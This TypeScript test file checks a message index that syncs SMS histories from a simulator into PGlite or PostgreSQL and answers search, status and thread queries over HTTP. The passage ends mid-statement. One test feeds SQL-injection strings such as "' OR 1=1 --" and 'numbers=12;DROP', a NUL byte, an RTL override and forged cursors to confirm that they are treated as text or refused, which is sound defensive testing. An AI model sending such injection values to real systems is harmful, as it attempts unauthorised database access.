import { messageCsvHeader, statusWord } from '../../contract/message-csv.ts'
import { upstreamStatusCode } from '../../contract/upstream-values.ts'
import { EventEmitter } from 'node:events'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { Writable } from 'node:stream'
import { parse as parseCsv } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ExportProgress, IndexStatus, SearchResult, StatsResult, ThreadResult } from '../../contract/index-api.ts'
import type { OpenedDb } from '../db/open.ts'
import { ENGINES, useEngines } from '../testing/engines.ts'
import { createForwarder, type Forwarder } from '../forward.ts'
import { createApp } from '../app.ts'
import { parseConfig } from '../config.ts'
import { recordingGate } from '../testing/helpers.ts'
import { DEMO_CREDENTIALS } from '../simulator/dataset.ts'
import { createSimulator, type Simulator } from '../simulator/simulator.ts'
import { parseIndexConfig } from './config.ts'
import { neutralise } from '../exports/csv.ts'
import { streamExport } from './export.ts'
import { createExportTracker } from '../exports/progress.ts'
import { apiDateToIso } from './parse.ts'
import { parseFilters } from '../kernel/params.ts'
import { forget } from './queries.ts'
import { createIndex, type MessageIndex } from './routes.ts'
import { createSyncer } from './sync.ts'
import { deskIndexHooks } from '../desk/index-hooks.ts'
import { heldAnswers } from '../testing/answers.ts'

/**
 * The message index against both engines (PGlite and a real PostgreSQL server), syncing from
 * the simulator over HTTP and answering over HTTP. Ground truth is the simulator's own history,
 * fetched whole and filtered here.
 */

const engines = useEngines()

interface SimMessage {
  system_id: number
  message_id: string
  GMTdate: string
  tid: string
  phone: string
  direction: string
  body: string
  mms: string
  mms_url: string
  status: string
}

/** A writable that keeps what the export writes, with the two calls streamExport makes of a ServerResponse. */
class Collect extends Writable {
  chunks: Buffer[] = []
  headersSent = false
  writeHead() {
    this.headersSent = true
    return this
  }
  override _write(chunk: Buffer, _enc: BufferEncoding, cb: () => void) {
    this.chunks.push(chunk)
    cb()
  }
  text() {
    return Buffer.concat(this.chunks).toString('utf8')
  }
}
interface Listed {
  number: string
  tid: string
}

async function post(url: string, path: string, body: unknown) {
  const r = await fetch(`${url}${path}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })
  if (!r.ok) throw new Error(`${path}: ${r.status} ${await r.text()}`)
}

/** Wraps the real forwarder to count history requests and act between pages. */
function hooked(fw: Forwarder, onHistory: (n: number) => Promise<void> | void) {
  let n = 0
  const wrapped: Forwarder & { count: () => number } = {
    forward: async (op, fields, signal) => {
      if (op === 'smshistory') {
        n += 1
        await onHistory(n)
      }
      return fw.forward(op, fields, signal)
    },
    forwardBytes: async (op, fields, signal) => {
      if (op === 'smshistory') {
        n += 1
        await onHistory(n)
      }
      return fw.forwardBytes(op, fields, signal)
    },
    judge: (...args) => fw.judge(...args),
    close: () => fw.close(),
    count: () => n,
  }
  return wrapped
}

describe.each(ENGINES)('message index on %s', (engine) => {
  let sim: Simulator
  let simServer: Server
  let simUrl: string
  let fw: Forwarder
  let numbers: Listed[]
  let db: OpenedDb
  let index: MessageIndex
  let api: Server
  let apiUrl: string
  const audits: Array<[string, Record<string, unknown>]> = []

  const num = (i: number) => numbers[i]!
  const truth = async (i: number): Promise<SimMessage[]> => {
    const { number, tid } = num(i)
    const probe = JSON.parse(
      (
        await fw.forward('smshistory', [
          ['number', number],
          ['tid', tid],
          ['history_start', '1'],
          ['history_end', '1'],
        ])
      ).body.toString(),
    ) as { total_message_count: number }
    const all = JSON.parse(
      (
        await fw.forward('smshistory', [
          ['number', number],
          ['tid', tid],
          ['history_start', '1'],
          ['history_end', String(Math.max(1, probe.total_message_count))],
        ])
      ).body.toString(),
    ) as { messages: SimMessage[] }
    return probe.total_message_count === 0 ? [] : all.messages
  }
  // Every answer the tests read is held to the schema its row declares, which the browser parses with.
  const answers = heldAnswers(() => index.routes)
  const get = async <T>(path: string): Promise<{ status: number; body: T }> => {
    const r = await fetch(`${apiUrl}${path}`)
    const body = (await r.json()) as T
    answers.hold('GET', path, r.status, () => body)
    return { status: r.status, body }
  }
  const syncNow = async (i: number, pageCap: number, forwarder: Forwarder = fw) => {
    const s = createSyncer({ hooks: deskIndexHooks, db, forwarder, pageCap, concurrency: 2, rate: 0, backoffMs: 20, maxRetries: 2 })
    await s.request({ number: num(i).number, tid: num(i).tid })
    await s.idle()
    await s.close()
    return s
  }
  /** Stored ordinals are the simulator's sequence numbers: system_id encodes seq for normal numbers. */
  const checkExact = async (i: number, expectedTotal: number) => {
    const r = await db.query<{ n: number; d: number; lo: number; hi: number; bad: number }>(
      `SELECT count(*)::int AS n, count(DISTINCT ordinal)::int AS d, min(ordinal) AS lo, max(ordinal) AS hi,
              count(*) FILTER (WHERE system_id::bigint - 200000000000 - $2::bigint * 2000000 <> ordinal)::int AS bad
       FROM index_messages WHERE number = $1`,
      [num(i).number, i],
    )
    expect(r.rows[0]).toEqual({ n: expectedTotal, d: expectedTotal, lo: 1, hi: expectedTotal, bad: 0 })
    const st = await db.query<{ indexed: number; state: string; full_done: boolean }>(
      'SELECT indexed, state, full_done FROM index_numbers WHERE number = $1',
      [num(i).number],
    )
    expect(st.rows[0]).toEqual({ indexed: expectedTotal, state: 'idle', full_done: true })
    await checkBodies()
  }
  /**
   * Every text is kept once, in index_bodies: a synced row holds its body's id and no copy of the
   * text; every id leads to a body, and the per-body counts match the rows. (That each message
   * reads back its upstream text is what the searches below compare with the simulator.)
   */
  const checkBodies = async () => {
    const b = await db.query<{ copies: number; unlinked: number; wrong: number; counts_off: number }>(
      `SELECT (SELECT count(*) FROM index_messages WHERE body IS NOT NULL)::int AS copies,
              (SELECT count(*) FROM index_messages WHERE body_id IS NULL)::int AS unlinked,
              (SELECT count(*) FROM index_messages m WHERE m.body_id IS NOT NULL AND NOT EXISTS (SELECT 1 FROM index_bodies b WHERE b.id = m.body_id))::int AS wrong,
              (SELECT count(*) FROM (SELECT body_id, number, count(*)::int AS n FROM index_messages WHERE body_id IS NOT NULL GROUP BY body_id, number) x
                 FULL JOIN index_body_counts c USING (body_id, number) WHERE x.n IS DISTINCT FROM c.count)::int AS counts_off`,
    )
    expect(b.rows[0]).toEqual({ copies: 0, unlinked: 0, wrong: 0, counts_off: 0 })
  }

  beforeAll(async () => {
    sim = createSimulator({ control: true })
    ;({ server: simServer, url: simUrl } = await sim.listen(0, '127.0.0.1'))
    fw = createForwarder({ baseUrl: simUrl, ...DEMO_CREDENTIALS }, 10_000)
    numbers = (JSON.parse((await fw.forward('allownednumbers', [])).body.toString()) as { data: Listed[] }).data
    db = await engines.open(engine)
    index = await createIndex(parseIndexConfig({ SYNC_RATE: '0', HISTORY_PAGE_CAP: '500', INDEX_AUTO_SYNC: 'off' }), {
      hooks: deskIndexHooks,
      forwarder: fw,
      db,
    })
    // The real app and route table in front of the index, so each route runs under its declared access and logging.
    const app = createApp(parseConfig({ API_BASE_URL: simUrl, API_SYS_ID: 'x', API_AUTH_TOKEN: 'y', HISTORY_PAGE_CAP: '500' }), {
      forwarder: fw,
      routes: index.routes,
      gate: recordingGate(audits),
    })
    api = createServer((req: IncomingMessage, res: ServerResponse) => app(req, res))
    await new Promise<void>((ok) => api.listen(0, '127.0.0.1', ok))
    apiUrl = `http://127.0.0.1:${(api.address() as AddressInfo).port}`
  }, 60_000)

  afterAll(async () => {
    await index?.close()
    api?.closeAllConnections()
    await new Promise<void>((ok) => (api ? api.close(() => ok()) : ok()))
    await fw?.close()
    simServer?.closeAllConnections()
    await new Promise<void>((ok) => (simServer ? simServer.close(() => ok()) : ok()))
  })

  describe('sync', () => {
    it('indexes a history exactly: count = upstream total, ordinals 1..n, duplicate message ids kept', async () => {
      await syncNow(0, 100)
      await checkExact(0, 2345)
      const dup = await db.query<{ n: number; d: number }>(
        'SELECT count(*)::int AS n, count(DISTINCT message_id)::int AS d FROM index_messages WHERE number = $1',
        [num(0).number],
      )
      // The simulator repeats a neighbour's message_id once in 97 records.
      expect(dup.rows[0]!.n - dup.rows[0]!.d).toBe(Math.floor(2345 / 97))
      // The daily roll-up holds the same messages.
      const roll = await db.query<{ n: number }>(
        'SELECT COALESCE(sum(inbound + outbound), 0)::int AS n FROM index_daily WHERE number = $1',
        [num(0).number],
      )
      expect(roll.rows[0]!.n).toBe(2345)
      // A second sync with nothing new costs one request (the envelope probe).
      const again = hooked(fw, () => {})
      await syncNow(0, 100, again)
      expect(again.count()).toBe(1)
    })

    it('stays exact when messages arrive between pages of a full sync', async () => {
      const i = 4
      // Messages land between pages 2 and 3, and again between pages 5 and 6 (within and beyond the overlap).
      const drift = hooked(fw, async (n) => {
        if (n === 3) await post(simUrl, '/__sim/messages', { number: num(i).number, add: 7 })
        if (n === 6) await post(simUrl, '/__sim/messages', { number: num(i).number, add: 60 })
      })
      await syncNow(i, 50, drift)
      await checkExact(i, 420 + 67)
      // An incremental sync after 30 more: the probe and one page.
      await post(simUrl, '/__sim/messages', { number: num(i).number, add: 30 })
      const inc = hooked(fw, () => {})
      await syncNow(i, 50, inc)
      expect(inc.count()).toBe(2)
      await checkExact(i, 420 + 97)
    })

    it('resumes from its checkpoint after being stopped mid-sync', async () => {
      const i = 5
      let first: ReturnType<typeof createSyncer> | null = null
      const killer = hooked(fw, (n) => {
        // Stopped at its 12th request: with 4 pages asked ahead, ~7 pages have been stored.
        if (n === 12) void first?.close()
      })
      first = createSyncer({ hooks: deskIndexHooks, db, forwarder: killer, pageCap: 200, concurrency: 1, rate: 0 })
      await first.request({ number: num(i).number, tid: num(i).tid })
      await first.idle()
      const mid = await db.query<{ indexed: number; cp_next: number; state: string }>(
        'SELECT indexed, cp_next, state FROM index_numbers WHERE number = $1',
        [num(i).number],
      )
      expect(mid.rows[0]!.state).toBe('queued')
      expect(mid.rows[0]!.indexed).toBeGreaterThanOrEqual(1000)
      expect(mid.rows[0]!.indexed).toBeLessThan(5000)
      expect(mid.rows[0]!.cp_next).toBe(5000 - mid.rows[0]!.indexed)
      // A new syncer (a restarted server) continues: the pages left, one overlap page and the probe.
      const second = hooked(fw, () => {})
      await syncNow(i, 200, second)
      await checkExact(i, 5000)
      const pagesLeft = Math.ceil(mid.rows[0]!.cp_next / 200)
      expect(second.count()).toBeLessThanOrEqual(pagesLeft + 2)
    })

    it('pauses with the reason when the upstream rejects mid-sync, and resumes later', async () => {
      const i = 3
      const rejecting = hooked(fw, async (n) => {
        if (n === 2)
          await post(simUrl, '/__sim/faults', {
            kind: 'reject',
            op: 'smshistory',
            number: num(i).number,
            message: 'Account suspended for review',
          })
      })
      await syncNow(i, 10, rejecting)
      const st = await db.query<{ state: string; error: string; indexed: number }>(
        'SELECT state, error, indexed FROM index_numbers WHERE number = $1',
        [num(i).number],
      )
      expect(st.rows[0]!.state).toBe('paused')
      expect(st.rows[0]!.error).toContain('Account suspended for review')
      expect(st.rows[0]!.indexed).toBe(10)
      await fetch(`${simUrl}/__sim/faults`, { method: 'DELETE' })
      await syncNow(i, 10)
      await checkExact(i, 36)
    })

    it('backs off and retries on 5xx, honouring Retry-After', async () => {
      const i = 2
      await post(simUrl, '/__sim/faults', { kind: 'status', status: 503, retryAfter: 0, op: 'smshistory', number: num(i).number, times: 2 })
      await syncNow(i, 10)
      await checkExact(i, 1)
    })

    it('two syncers on one database sync a number once: one holds the lock, the end state is exact', async () => {
      const i = 0
      await fetch(`${apiUrl}/api/index/forget`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ number: num(i).number }),
      })
      const other = engine === 'postgres' ? await engines.reopen(db) : db
      const fa = hooked(fw, () => new Promise((r) => setTimeout(r, 5)))
      const fb = hooked(fw, () => new Promise((r) => setTimeout(r, 5)))
      const a = createSyncer({ hooks: deskIndexHooks, db, forwarder: fa, pageCap: 100, concurrency: 1, rate: 0 })
      const b = createSyncer({ hooks: deskIndexHooks, db: other, forwarder: fb, pageCap: 100, concurrency: 1, rate: 0 })
      await Promise.all([a.request({ number: num(i).number, tid: num(i).tid }), b.request({ number: num(i).number, tid: num(i).tid })])
      await Promise.all([a.idle(), b.idle()])
      await a.close()
      await b.close()
      await checkExact(i, 2345)
      // One of them walked the history (24 pages and the probe); the other was refused the lock.
      expect(Math.min(fa.count(), fb.count())).toBe(0)
      expect(Math.max(fa.count(), fb.count())).toBe(25)
    })

    /**
     * Syncs `number` from a real HTTP upstream of 30 messages (system id = sequence from the
     * oldest), served in the order `seqAt(position)` gives, with `newest` as the envelope's newest id.
     */
    async function syncFrom30(number: string, seqAt: (position: number) => number, newest: number): Promise<void> {
      const upstream = createServer((req, res) => {
        let body = ''
        req.on('data', (c: Buffer) => (body += c.toString()))
        req.on('end', () => {
          const f = new URLSearchParams(body)
          const start = Number(f.get('history_start'))
          const end = Math.min(Number(f.get('history_end')), 30)
          const messages = []
          for (let p = start; p <= end; p++) {
            const seq = seqAt(p)
            messages.push({
              system_id: seq,
              message_id: `m${seq}`,
              GMTdate: `2026-01-01 00:00:${String(seq).padStart(2, '0')}`,
              tid: 'T',
              phone: '15550001111',
              direction: 'inbound',
              body: 'x',
              mms: 'no',
              mms_url: '',
              status: '200',
            })
          }
          res.writeHead(200, { 'content-type': 'application/json' })
          res.end(JSON.stringify({ success: '1', total_message_count: 30, most_recent_msg_id: newest, messages }))
        })
      })
      await new Promise<void>((ok) => upstream.listen(0, '127.0.0.1', ok))
      const fw = createForwarder(
        { baseUrl: `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`, sysId: 'x', authToken: 'y' },
        5000,
      )
      const s = createSyncer({ hooks: deskIndexHooks, db, forwarder: fw, pageCap: 10, concurrency: 1, rate: 0 })
      await s.request({ number, tid: `T${number.slice(-4)}` })
      await s.idle()
      await s.close()
      await fw.close()
      upstream.closeAllConnections()
      upstream.close()
    }

    it('an envelope whose newest id lags a record behind is not taken for an oldest-first history', async () => {
      // Newest first, as documented, but the envelope names the second record as the newest (it lags).
      await syncFrom30('15550009998', (p) => 30 - p + 1, 29)
      const st = await db.query<{ state: string; error: string | null; indexed: number }>(
        'SELECT state, error, indexed FROM index_numbers WHERE number = $1',
        ['15550009998'],
      )
      expect(st.rows[0]).toEqual({ state: 'idle', error: null, indexed: 30 })
      const bad = await db.query<{ n: number }>(
        `SELECT count(*)::int AS n FROM index_messages WHERE number = $1 AND system_id::int <> ordinal`,
        ['15550009998'],
      )
      expect(bad.rows[0]!.n).toBe(0)
      // Forgotten whole (roll-ups and desk too): the other tests count across the account.
      await forget(db, '15550009998', deskIndexHooks)
      await db.query(`DELETE FROM index_numbers WHERE number = '15550009998'`)
    })

    it('stops with a clear state when a history comes oldest first', async () => {
      // A real HTTP upstream that answers in ascending date order; the envelope names the newest message (system id 30), which it sends last.
      await syncFrom30('15550009999', (p) => p, 30)
      const st = await db.query<{ state: string; error: string; indexed: number }>(
        'SELECT state, error, indexed FROM index_numbers WHERE number = $1',
        ['15550009999'],
      )
      expect(st.rows[0]).toMatchObject({ state: 'error', indexed: 0 })
      expect(st.rows[0]!.error).toMatch(/oldest first/)
      await db.query(`DELETE FROM index_numbers WHERE number = '15550009999'`)
    })
  })

  describe('queries over HTTP', () => {
    let all: Array<SimMessage & { number: string; ordinal: number }>
    beforeAll(async () => {
      // Numbers 0, 3, 4, 5 and 7 (hostile texts) indexed; ground truth from the simulator itself.
      await syncNow(7, 10)
      for (const i of [0, 3, 4, 5]) await syncNow(i, 500)
      all = []
      // Number 2 (one message) was indexed by the retry test above.
      for (const i of [0, 2, 3, 4, 5, 7]) {
        const msgs = await truth(i)
        msgs.forEach((m, k) => all.push({ ...m, number: num(i).number, ordinal: msgs.length - k }))
      }
    }, 60_000)

    const searchAll = async (qs: string) => {
      const rows: SearchResult['rows'] = []
      let cursor: string | null = null
      let total = -1
      for (let guard = 0; guard < 100; guard++) {
        const r: { status: number; body: SearchResult } = await get<SearchResult>(
          `/api/index/search?${qs}&limit=500${cursor ? `&cursor=${cursor}` : ''}`,
        )
        expect(r.status).toBe(200)
        total = r.body.total
        rows.push(...r.body.rows)
        cursor = r.body.nextCursor
        if (!cursor) break
      }
      return { total, rows }
    }
    const expectSame = async (qs: string, pred: (m: SimMessage & { number: string }) => boolean) => {
      const { total, rows } = await searchAll(qs)
      const expected = all.filter(pred)
      expect(total).toBe(expected.length)
      expect(rows.length).toBe(expected.length)
      // Every match exactly once, newest first.
      const keys = new Set(rows.map((r) => `${r.number}:${r.ordinal}`))
      expect(keys.size).toBe(rows.length)
      for (const m of expected) expect(keys.has(`${m.number}:${m.ordinal}`)).toBe(true)
      for (let k = 1; k < rows.length; k++) expect(rows[k - 1]!.date! >= rows[k]!.date!).toBe(true)
      return rows
    }

    it('status lists every number with counts and freshness', async () => {
      const r = await get<IndexStatus>('/api/index/status')
      expect(r.status).toBe(200)
      expect(r.body.enabled).toBe(true)
      expect(r.body.engine).toBe(engine)
      const n0 = r.body.numbers.find((n) => n.number === num(0).number)!
      expect(n0).toMatchObject({ state: 'idle', indexed: 2345, upstreamTotal: 2345, error: null, progress: null })
      expect(n0.newestDate).toBe(apiDateToIso(all.find((m) => m.number === num(0).number)!.GMTdate))
      expect(r.body.freshness.numbersKnown).toBeGreaterThanOrEqual(5)
      expect(typeof r.body.freshness.indexedUpTo).toBe('string')
    })

    it('status narrows to one number, or to the summary, with the overall progress and whether the server indexes on its own', async () => {
      const whole = await get<IndexStatus>('/api/index/status')
      expect(whole.body.autoSync).toBe(false)
      // Numbers were synced one by one here: nobody has listed the account.
      expect(whole.body.accountListed).toBe(false)
      const p = whole.body.progress!
      const listed = whole.body.numbers.filter((n) => !n.removed)
      expect(p.numbersTotal).toBe(listed.length)
      expect(p.messages).toBe(listed.reduce((a, n) => a + n.indexed, 0))
      expect(p.messagesTotal).toBeGreaterThanOrEqual(p.messages)
      expect(p.running).toBe(false)

      const one = await get<IndexStatus>(`/api/index/status?number=${num(0).number}`)
      expect(one.status).toBe(200)
      expect(one.body.numbers.map((n) => n.number)).toEqual([num(0).number])
      expect(one.body.freshness.incomplete).toEqual([])
      const never = await get<IndexStatus>(`/api/index/status?number=${num(1).number}`)
      expect(never.body.freshness.incomplete).toEqual([num(1).number])

      const summary = await get<IndexStatus>('/api/index/status?summary=true')
      expect(summary.body.numbers).toEqual([])
      expect(summary.body.progress).toEqual(p)
      expect(summary.body.freshness).toEqual(whole.body.freshness)

      for (const [qs, field] of [
        ['summary=yes', 'summary'],
        ['number=12', 'number'],
        [`summary=true&number=${num(0).number}`, 'summary'],
        ['numbers=1', 'numbers'],
      ] as const) {
        const bad = await get<{ error: { kind: string; field?: string; message: string } }>(`/api/index/status?${qs}`)
        expect(bad.status, qs).toBe(400)
        expect(bad.body.error.message, qs).toMatch(field)
      }
    })

    it('status lists a page of numbers by `limit`, narrowed by the digits in `match`, with how many match', async () => {
      const whole = (await get<IndexStatus>('/api/index/status')).body.numbers
      expect(whole.length).toBeGreaterThanOrEqual(3)
      const first = await get<IndexStatus>('/api/index/status?limit=2')
      expect(first.status).toBe(200)
      // The same records as the whole list, in the same order: the first two of them.
      expect(first.body.numbers).toEqual(whole.slice(0, 2))
      expect(first.body.numbersMatched).toBe(whole.length)
      expect(first.body.freshness).toBeDefined()
      // Digits from the middle of one number, written as a person types them.
      const target = whole[whole.length - 1]!.number
      const typed = `(${target.slice(2, 5)}) ${target.slice(5, 8)}`
      const digits = target.slice(2, 8)
      const expected = whole.filter((n) => n.number.includes(digits))
      const found = await get<IndexStatus>(`/api/index/status?limit=100&match=${encodeURIComponent(typed)}`)
      expect(found.body.numbers).toEqual(expected)
      expect(found.body.numbersMatched).toBe(expected.length)
      const none = await get<IndexStatus>('/api/index/status?limit=100&match=000000000000000')
      expect(none.body).toMatchObject({ numbers: [], numbersMatched: 0 })
      // The whole list says nothing of a match count.
      expect((await get<IndexStatus>('/api/index/status')).body.numbersMatched).toBeUndefined()
      for (const [qs, field] of [
        ['limit=0', 'limit'],
        ['limit=10001', 'limit'],
        ['limit=ten', 'limit'],
        ['match=abc', 'match'],
        ['match=%25', 'match'],
        ['limit=5&summary=true', 'summary'],
        [`match=1&number=${num(0).number}`, 'number'],
      ] as const) {
        const bad = await get<{ error: { kind: string; field?: string; message: string } }>(`/api/index/status?${qs}`)
        expect(bad.status, qs).toBe(400)
        expect(bad.body.error.field, qs).toBe(field)
      }
    })

    it('searches bodies case-insensitively, Unicode included, with exact counts and keyset paging', async () => {
      const rows = await expectSame('q=APPOINTMENT', (m) => m.body.toLowerCase().includes('appointment'))
      expect(rows.length).toBeGreaterThan(500) // more than one page
      await expectSame(`q=${encodeURIComponent('שלום')}`, (m) => m.body.includes('שלום'))
      await expectSame(`q=${encodeURIComponent('مرحبا')}`, (m) => m.body.includes('مرحبا'))
      await expectSame(`q=${encodeURIComponent('👍')}`, (m) => m.body.includes('👍'))
      // Each result carries its number, ordinal and position, so the UI can link to its page.
      const one = (await get<SearchResult>(`/api/index/search?q=appointment&numbers=${num(3).number}&limit=1`)).body.rows[0]!
      expect(one.position).toBe(36 - one.ordinal + 1)
    })

    it('matches the other party by digits, partial and formatted', async () => {
      const party = all.find((m) => m.number === num(0).number)!.phone
      const partial = party.slice(4, 10) // e.g. "555014" of 1917555014x
      const formatted = `(${party.slice(1, 4)}) ${party.slice(4, 7)}-${party.slice(7)}`
      await expectSame(`party=${encodeURIComponent(formatted)}`, (m) => m.phone.includes(party.slice(1)))
      await expectSame(`party=${encodeURIComponent(partial.slice(0, 3) + '-' + partial.slice(3))}`, (m) => m.phone.includes(partial))
      // Two numbers, a few rows a page: the page read thread by thread (queries.ts searchPage)
      // keeps the order and the cursor across numbers and customers.
      const two = [num(0).number, num(1).number]
      // Digits that more than one of their customers have, and few enough to be read thread by thread.
      const phones = [...new Set(all.filter((m) => two.includes(m.number)).map((m) => m.phone))]
      const shared = (d: string) => phones.filter((x) => x.includes(d)).length
      const candidates = [7, 6, 5, 4, 3].flatMap((len) =>
        phones.flatMap((x) => Array.from({ length: x.length - len + 1 }, (_, at) => x.slice(at, at + len))),
      )
      const digits = candidates.find((d) => /^\d+$/.test(d) && shared(d) >= 2 && shared(d) <= 10)!
      expect(digits).toBeDefined()
      const expected = all.filter((m) => two.includes(m.number) && m.phone.includes(digits))
      const seen: SearchResult['rows'] = []
      let cursor: string | null = null
      for (let guard = 0; guard < 500 && (cursor || seen.length === 0); guard++) {
        const r: { status: number; body: SearchResult } = await get<SearchResult>(
          `/api/index/search?party=${digits}&numbers=${two.join(',')}&limit=7${cursor ? `&cursor=${cursor}` : ''}`,
        )
        expect(r.status).toBe(200)
        seen.push(...r.body.rows)
        cursor = r.body.nextCursor
      }
      expect(seen.map((r) => `${r.number}:${r.ordinal}`).sort()).toEqual(expected.map((m) => `${m.number}:${m.ordinal}`).sort())
      for (let k = 1; k < seen.length; k++) expect(seen[k - 1]!.date! >= seen[k]!.date!).toBe(true)
    })

    it('filters by direction, status, media, dates and numbers', async () => {
      const n0 = num(0).number
      const n4 = num(4).number
      await expectSame(`numbers=${n0}&direction=inbound`, (m) => m.number === n0 && m.direction !== 'outbound')
      await expectSame(`numbers=${n0},${n4}&status=error`, (m) => (m.number === n0 || m.number === n4) && /^4\d\d|^5\d\d/.test(m.status))
      await expectSame('status=503', (m) => m.status.startsWith('503'))
      await expectSame(`numbers=${n4}&media=yes`, (m) => m.number === n4 && m.mms === 'yes')
      const day = all.find((m) => m.number === n0)!.GMTdate.slice(0, 10)
      await expectSame(`numbers=${n0}&from=${day}&to=${day}`, (m) => m.number === n0 && m.GMTdate.slice(0, 10) === day)
      await expectSame(
        `status=success&from=${day}T06:00:00Z`,
        (m) => /^2\d\d/.test(m.status) && apiDateToIso(m.GMTdate)! >= `${day}T06:00:00Z`,
      )
      // No filter: the whole index, counted from the numbers table.
      const r = await get<SearchResult>('/api/index/search?limit=3')
      expect(r.body.total).toBe(all.length)
    })

    it('treats hostile text as text: wildcards, backslashes, quotes, RTL; refuses NUL and over-long text', async () => {
      for (const q of ['%', '_', '\\', "'", '"', "' OR 1=1 --", '%_\\%', 'a%b', '\u202Egnp']) {
        await expectSame(`q=${encodeURIComponent(q)}`, (m) => m.body.toLowerCase().includes(q.toLowerCase()))
      }
      const nul = await get<{ error: { kind: string; field: string } }>(`/api/index/search?q=${encodeURIComponent('a\u0000b')}`)
      expect(nul.status).toBe(400)
      expect(nul.body.error).toMatchObject({ kind: 'invalid_request', field: 'q' })
      // Past the text limit but inside the request-target limit (a 10 KB target is refused before routing, 414).
      const big = await get<{ error: { field: string } }>(`/api/index/search?q=${'x'.repeat(3_000)}`)
      expect(big.status).toBe(400)
      expect(big.body.error.field).toBe('q')
      for (const [qs, field] of [
        ['limit=501', 'limit'],
        ['limit=0', 'limit'],
        ['direction=sideways', 'direction'],
        ['status=failed', 'status'],
        ['from=2026-02-31', 'from'],
        // Timestamps naming no real instant: Date.parse rolled them over (to 2 March, to the next day).
        ['from=2026-02-30T00:00:00Z', 'from'],
        ['to=2026-11-31T00:00:00Z', 'to'],
        ['from=2026-11-20T24:00:00Z', 'from'],
        ['to=2026-11-20T12:60:00Z', 'to'],
        ['to=2026-11-20T12:00:61Z', 'to'],
        ['from=2026-11-20T12:00:00%2B24:00', 'from'],
        ['numbers=12;DROP', 'numbers'],
        ['cursor=not-a-cursor', 'cursor'],
        // Forged cursors that Date.parse takes and PostgreSQL refuses, or an ordinal past integer.
        [`cursor=${Buffer.from(JSON.stringify(['2026-02-31T00:00:00.000Z', '18323232323', 5])).toString('base64url')}`, 'cursor'],
        [`cursor=${Buffer.from(JSON.stringify(['+275760-09-13T00:00:00.000Z', '18323232323', 5])).toString('base64url')}`, 'cursor'],
        [`cursor=${Buffer.from(JSON.stringify(['2026-02-03', '18323232323', 5])).toString('base64url')}`, 'cursor'],
        [`cursor=${Buffer.from(JSON.stringify(['2026-02-03T00:00:00.000Z', '18323232323', 1e12])).toString('base64url')}`, 'cursor'],
        ['party=abc', 'party'],
        // Text around the digits: searched as the digits, it was logged as typed, where the log's party filter missed it.
        ['party=tel:1/415/555/0123', 'party'],
        ['party=14155550123x', 'party'],
        ['tz=%01%01', 'tz'],
        ['tz=Mars/Olympus', 'tz'],
        ['q=a&q=b', 'q'],
        ['bogus=1', 'bogus'],
        // Days the database cannot take (a 500 before) and year 1, which Date.UTC reads as 1901.
        ['to=9999-12-31', 'to'],
        ['from=0001-01-01', 'from'],
        ['from=0001-01-01T00:00:00%2B14:00', 'from'],
        ['to=3000-01-01', 'to'],
      ] as const) {
        const r = await get<{ error: { kind: string; field: string; message: string } }>(`/api/index/search?${qs}`)
        expect(r.status, qs).toBe(400)
        expect(r.body.error, qs).toMatchObject({ kind: 'invalid_request', field })
      }
      const far = await get<{ error: { message: string } }>('/api/index/search?to=9999-12-31')
      expect(far.body.error.message).toBe('to must be a date from 1900-01-01 to 2999-12-31.')
      // The other routes that take days refuse them the same way, never with a 500.
      const n0 = num(0).number
      for (const [path, field] of [
        [`/api/index/thread?number=${n0}&party=14155550123&at=9999-12-31`, 'at'],
        [`/api/index/locate?number=${n0}&date=9999-12-31`, 'date'],
        [`/api/index/stats?number=${n0}&to=9999-12-31&tz=Etc/GMT-14`, 'to'],
      ] as const) {
        const r = await get<{ error: { kind: string; field: string } }>(path)
        expect(r.status, path).toBe(400)
        expect(r.body.error, path).toMatchObject({ kind: 'invalid_request', field })
      }
    })

    it('serves a whole thread with one party, newest first, paged', async () => {
      const n0 = num(0).number
      const party = all.find((m) => m.number === n0)!.phone
      const expected = all.filter((m) => m.number === n0 && m.phone === party)
      const seen: ThreadResult['rows'] = []
      let before: string | null = null
      let first: ThreadResult | null = null
      for (let guard = 0; guard < 50; guard++) {
        const r: { status: number; body: ThreadResult } = await get<ThreadResult>(
          `/api/index/thread?number=${n0}&party=${party}&limit=200${before ? `&before=${before}` : ''}`,
        )
        expect(r.status).toBe(200)
        first ??= r.body
        seen.push(...r.body.rows)
        before = r.body.nextCursor
        if (!before) break
      }
      expect(first!.total).toBe(expected.length)
      expect(seen.length).toBe(expected.length)
      expect(first!.lastDate).toBe(apiDateToIso(expected[0]!.GMTdate))
      expect(first!.firstDate).toBe(apiDateToIso(expected[expected.length - 1]!.GMTdate))
      expect(seen.map((r) => r.ordinal)).toEqual(expected.map((m) => m.ordinal))
      expect(audits.some(([a, d]) => a === 'thread.view' && d.party === party)).toBe(true)
      const parties = await get<{ parties: Array<{ party: string; count: number }> }>(`/api/index/parties?number=${n0}`)
      expect(parties.body.parties.find((p) => p.party === party)?.count).toBe(expected.length)
      expect(parties.body.parties.reduce((s, p) => s + p.count, 0)).toBe(2345)
    })

    it('serves one thread from a party stored in both its forms, merged newest first across pages', async () => {
      // Each form's messages are read down the thread index on their own and merged (queries.ts
      // threadPage): the merge must keep the order and the cursor across forms.
      const n = '19990000002'
      const forms = ['14155550188', '4155550188']
      const rows = Array.from({ length: 7 }, (_, k) => ({
        ordinal: k + 1,
        date: `2026-05-0${k + 1}T10:00:00Z`,
        party: forms[k % 3 === 0 ? 1 : 0]!,
      }))
      try {
        await db.query(
          `INSERT INTO index_numbers (number, tid, upstream_total, top_ordinal, indexed, full_done, state) VALUES ($1, 'TSEP', 7, 7, 7, true, 'idle')`,
          [n],
        )
        for (const r of rows) {
          await db.query(
            `INSERT INTO index_messages (number, ordinal, fetched_tid, tid, system_id, message_id, date, phone, party_digits, direction, body, status, status_code)
             VALUES ($1, $2, 'TSEP', $3, $3, $3, $4, $5, $5, 'inbound', 'hi', '200', 200)`,
            [n, r.ordinal, String(r.ordinal), r.date, r.party],
          )
        }
        // Another customer of the same number, newer than all of them: never in the thread.
        await db.query(
          `INSERT INTO index_messages (number, ordinal, fetched_tid, tid, system_id, message_id, date, phone, party_digits, direction, body, status, status_code)
